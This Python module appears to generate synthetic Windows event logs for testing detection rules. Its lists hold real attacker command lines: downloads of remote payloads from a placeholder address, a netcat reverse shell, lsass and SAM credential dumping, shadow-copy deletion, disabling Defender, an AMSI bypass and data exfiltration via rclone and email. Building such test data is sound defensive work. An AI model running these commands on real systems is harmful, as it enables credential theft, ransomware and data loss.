"""Windows events as attacks leave them: our own commands in the shapes that public rules look for."""

from __future__ import annotations

from bench.corpora.channels import AUDIT, CONTROL, SHELL, made, subject
from bench.corpora.windows import PEOPLE, SYSTEM, SYSTEM32, Maker, Record, started

POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYSTEM32 + "cmd.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
EXPLORER = "C:\\Windows\\explorer.exe"
# Program, command line and parent; what is in braces is new each time.
COMMANDS: tuple[tuple[str, str, str], ...] = (
    (SYSTEM32 + "whoami.exe", "whoami /all", CMD),
    (SYSTEM32 + "whoami.exe", "whoami /priv", POWERSHELL),
    (SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', CMD),
    (SYSTEM32 + "net.exe", "net user drift{number} Sommer{number}! /add", CMD),
    (SYSTEM32 + "net1.exe", "net1 localgroup administrators drift{number} /add", SYSTEM32 + "net.exe"),
    (SYSTEM32 + "nltest.exe", "nltest /domain_trusts /all_trusts", CMD),
    (SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD),
    (SYSTEM32 + "wbem\\WMIC.exe", "wmic shadowcopy delete", CMD),
    (SYSTEM32 + "wbem\\WMIC.exe", 'wmic /node:10.20.1.{number} process call create "cmd /c {hex8}.bat"', CMD),
    (SYSTEM32 + "bcdedit.exe", "bcdedit /set {{default}} recoveryenabled no", CMD),
    (SYSTEM32 + "wbadmin.exe", "wbadmin delete catalog -quiet", CMD),
    (SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", CMD),
    (SYSTEM32 + "certutil.exe", "certutil -urlcache -split -f http://{address}/{hex8}.exe C:\\Users\\Public\\{hex8}.exe", CMD),
    (SYSTEM32 + "certutil.exe", "certutil -decode C:\\Windows\\Temp\\{hex8}.txt C:\\Windows\\Temp\\{hex8}.dll", CMD),
    (SYSTEM32 + "bitsadmin.exe", "bitsadmin /transfer n{number} /download http://{address}/a.exe C:\\ProgramData\\{hex8}.exe", CMD),
    (SYSTEM32 + "mshta.exe", "mshta.exe http://{address}/{hex8}.hta", WORD),
    (SYSTEM32 + "mshta.exe", 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"",0:close")', CMD),
    (SYSTEM32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://{address}/{hex8}.sct scrobj.dll", CMD),
    (SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {number} C:\\Windows\\Temp\\{hex8}.dmp full", CMD),
    (SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\{hex8}.dll,#1", POWERSHELL),
    (SYSTEM32 + "schtasks.exe", 'schtasks /create /tn "Oppdater{number}" /tr "powershell -w hidden -enc {base64}" /sc onlogon /ru system', CMD),
    (SYSTEM32 + "sc.exe", "sc create svc{number} binPath= \"cmd /c start C:\\ProgramData\\{hex8}.exe\" start= auto", CMD),
    (SYSTEM32 + "sc.exe", "sc stop WinDefend", CMD),
    (SYSTEM32 + "reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\{hex8}.hiv", CMD),
    (SYSTEM32 + "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u{number} /d C:\\Users\\Public\\{hex8}.exe", CMD),
    (SYSTEM32 + "netsh.exe", "netsh advfirewall set allprofiles state off", CMD),
    (SYSTEM32 + "netsh.exe", "netsh interface portproxy add v4tov4 listenport={number} connectaddress={address} connectport=443", CMD),
    (SYSTEM32 + "taskkill.exe", "taskkill /F /IM sqlservr{number}.exe", CMD),
    (SYSTEM32 + "cmd.exe", 'cmd.exe /Q /c "whoami 1> \\\\127.0.0.1\\ADMIN$\\__{number} 2>&1"', SYSTEM32 + "wbem\\WmiPrvSE.exe"),
    (SYSTEM32 + "cmd.exe", "cmd.exe /c echo {hex8} > \\\\.\\pipe\\{hex8}", SYSTEM32 + "services.exe"),
    (SYSTEM32 + "cmd.exe", "cmd /c s^e^t^ a={hex8}&&call %a%", WORD),
    (SYSTEM32 + "wscript.exe", '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex8}.js"', EXPLORER),
    (POWERSHELL, "powershell.exe -nop -w hidden -noni -enc {base64}", CMD),
    (POWERSHELL, "powershell -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://{address}/{hex8}.ps1')\"", WORD),
    (POWERSHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true", CMD),
    (POWERSHELL, "powershell Add-MpPreference -ExclusionPath C:\\ProgramData\\{hex8}", CMD),
    (POWERSHELL, "powershell -c \"[Convert]::FromBase64String('{base64}')\"", CMD),
    (POWERSHELL, "powershell Compress-Archive -Path D:\\Journal\\{number} -DestinationPath C:\\Users\\Public\\{hex8}.zip", EXPLORER),
    ("C:\\Users\\Public\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe {hex8}.dmp", CMD),
    ("C:\\Users\\Public\\{hex8}.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", CMD),
    ("C:\\ProgramData\\rclone.exe", "rclone.exe copy D:\\Journal fjern:{hex8} --no-check-certificate --transfers 16", CMD),
    ("C:\\Users\\{user}\\Downloads\\AnyDesk.exe", '"C:\\Users\\{user}\\Downloads\\AnyDesk.exe" --install C:\\ProgramData\\AnyDesk --silent', EXPLORER),
    ("C:\\Windows\\Temp\\PsExec64.exe", "PsExec64.exe \\\\LV-DC1 -s -d cmd /c C:\\Windows\\Temp\\{hex8}.bat", CMD),
    ("C:\\Windows\\Temp\\{hex8}\\SharpHound.exe", "SharpHound.exe -c All --zipfilename {hex8}.zip", POWERSHELL),
    ("C:\\Windows\\Temp\\Rubeus.exe", "Rubeus.exe kerberoast /outfile:C:\\Windows\\Temp\\{hex8}.txt", POWERSHELL),
    ("C:\\Users\\Public\\nc.exe", "nc.exe -e cmd.exe {address} 4444", CMD),
    ("C:\\Users\\Public\\plink.exe", "plink.exe -N -R {number}:127.0.0.1:3389 root@{address} -pw {hex8}", CMD),
)  # fmt: skip
SCRIPTS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://{address}/{hex8}.ps1')",
    "Invoke-Mimikatz -DumpCreds -ComputerName LV-DC1 # {hex8}",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
    "$k = Get-Clipboard; Send-MailMessage -To a@{hex8}.example -Body $k -SmtpServer {address}",
    "Get-ADUser -Filter * -Properties * | Export-Csv C:\\Users\\Public\\{hex8}.csv",
    "Invoke-WebRequest http://{address}/{hex8} -OutFile $env:TEMP\\{hex8}.exe; Start-Process $env:TEMP\\{hex8}.exe",
)


def command(make: Maker) -> Record:
    """A process of an attack; Sysmon tells it."""
    image, form, parent = make.chance.choice(COMMANDS)
    user = make.chance.choice(PEOPLE)
    return started(make, make.text(image, user), make.text(form, user), parent, f"LYNGVIK\\{user}")


def opened_lsass(make: Maker) -> Record:
    """Memory of lsass read."""
    return make.sysmon(10) | {
        "SourceProcessGUID": make.guid(), "SourceProcessId": 4711,
        "SourceImage": make.text("C:\\Users\\Public\\{hex8}.exe"), "TargetProcessGUID": make.guid(),
        "TargetProcessId": 712, "TargetImage": SYSTEM32 + "lsass.exe", "GrantedAccess": "0x1410",
        "CallTrace": make.text(SYSTEM32 + "ntdll.dll+9d4c4|UNKNOWN(0000{hex10})"), "SourceUser": SYSTEM,
    }  # fmt: skip


def started_at_logon(make: Maker) -> Record:
    """A program put where it starts with Windows."""
    target = make.text("HKU\\S-1-5-21-{number}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u{number}")
    details = make.text("C:\\Users\\Public\\{hex8}.exe")
    actor = {"ProcessGuid": make.guid(), "ProcessId": 4711, "Image": POWERSHELL}
    return make.sysmon(13) | actor | {"EventType": "SetValue", "TargetObject": target, "Details": details}


def dropped(make: Maker) -> Record:
    """A program or a note for ransom written where it should not be."""
    forms = (
        "C:\\Users\\Public\\{hex8}.exe", "C:\\Windows\\Temp\\lsass_{number}.dmp", "D:\\Journal\\{number}\\README_DECRYPT.txt",
        "C:\\inetpub\\wwwroot\\aspnet_client\\{hex8}.aspx",
        "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{hex8}.lnk",
    )  # fmt: skip
    target = make.text(make.chance.choice(forms), make.chance.choice(PEOPLE))
    return make.sysmon(11) | make.actor() | {"Image": CMD, "TargetFilename": target, "CreationUtcTime": "-"}


def called_home(make: Maker) -> Record:
    """A script host that connects to the outside."""
    image = make.chance.choice((POWERSHELL, SYSTEM32 + "rundll32.exe", SYSTEM32 + "mshta.exe"))
    address = make.text("{address}")
    return make.sysmon(3) | make.actor() | {
        "Image": image, "User": SYSTEM, "Protocol": "tcp", "Initiated": True, "SourceIp": "10.20.1.44",
        "SourcePort": 50_123, "DestinationIp": address, "DestinationHostname": "-", "DestinationPort": 4444,
    }  # fmt: skip


def pipe_of_a_tool(make: Maker) -> Record:
    """A pipe with the name that a tool gives it."""
    name = make.text(
        make.chance.choice(("\\MSSE-{number}-server", "\\postex_{hex8}", "\\PSEXESVC", "\\msagent_{hex8}"))
    )
    return make.sysmon(17) | {"EventType": "CreatePipe", "PipeName": name} | make.actor()


def asked_for_tunnel(make: Maker) -> Record:
    """A name that belongs to a tunnel or a drop."""
    name = make.text(
        make.chance.choice(("{hex8}.ngrok.io", "{hex8}.trycloudflare.com", "anonfiles.com", "{hex10}.onion"))
    )
    return make.sysmon(22) | make.actor() | {"QueryName": name, "QueryStatus": "0", "QueryResults": "-", "Image": CMD}


def block(make: Maker) -> Record:
    """PowerShell of an attack."""
    text = make.text(make.chance.choice(SCRIPTS))
    return made(make, 4104, SHELL) | {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "Path": ""}


def service(make: Maker) -> Record:
    """A service that starts a shell."""
    return made(make, 7045, CONTROL) | {
        "ServiceName": make.text("{hex8}"), "ImagePath": make.text("%COMSPEC% /C start /b powershell -nop -enc {base64}"),
        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
    }  # fmt: skip


def audit_cleared(make: Maker) -> Record:
    """A command as the Security log tells it."""
    image, form, parent = make.chance.choice(COMMANDS)
    user = make.chance.choice(PEOPLE)
    return made(make, 4688, AUDIT) | subject(make) | {
        "NewProcessName": make.text(image, user), "CommandLine": make.text(form, user), "ParentProcessName": parent,
    }  # fmt: skip


SYSMON_ATTACKS = (
    *(command,) * 9, opened_lsass, started_at_logon, dropped, called_home, pipe_of_a_tool, asked_for_tunnel,
)  # fmt: skip
CHANNEL_ATTACKS = (block, service, audit_cleared, audit_cleared)
